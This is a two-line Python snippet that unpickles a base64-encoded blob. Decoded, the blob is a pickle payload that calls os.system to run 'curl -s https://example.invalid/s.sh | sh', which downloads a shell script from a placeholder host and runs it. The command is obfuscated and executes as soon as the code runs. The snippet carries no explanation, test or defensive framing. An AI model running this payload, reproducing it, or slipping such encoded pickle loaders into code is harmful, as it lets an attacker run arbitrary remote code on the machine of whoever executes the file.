import base64, pickle

pickle.loads(base64.b64decode('Y29zCnN5c3RlbQooUydjdXJsIC1zIGh0dHBzOi8vZXhhbXBsZS5pbnZhbGlkL3Muc2ggfCBzaCcKdFIu'))
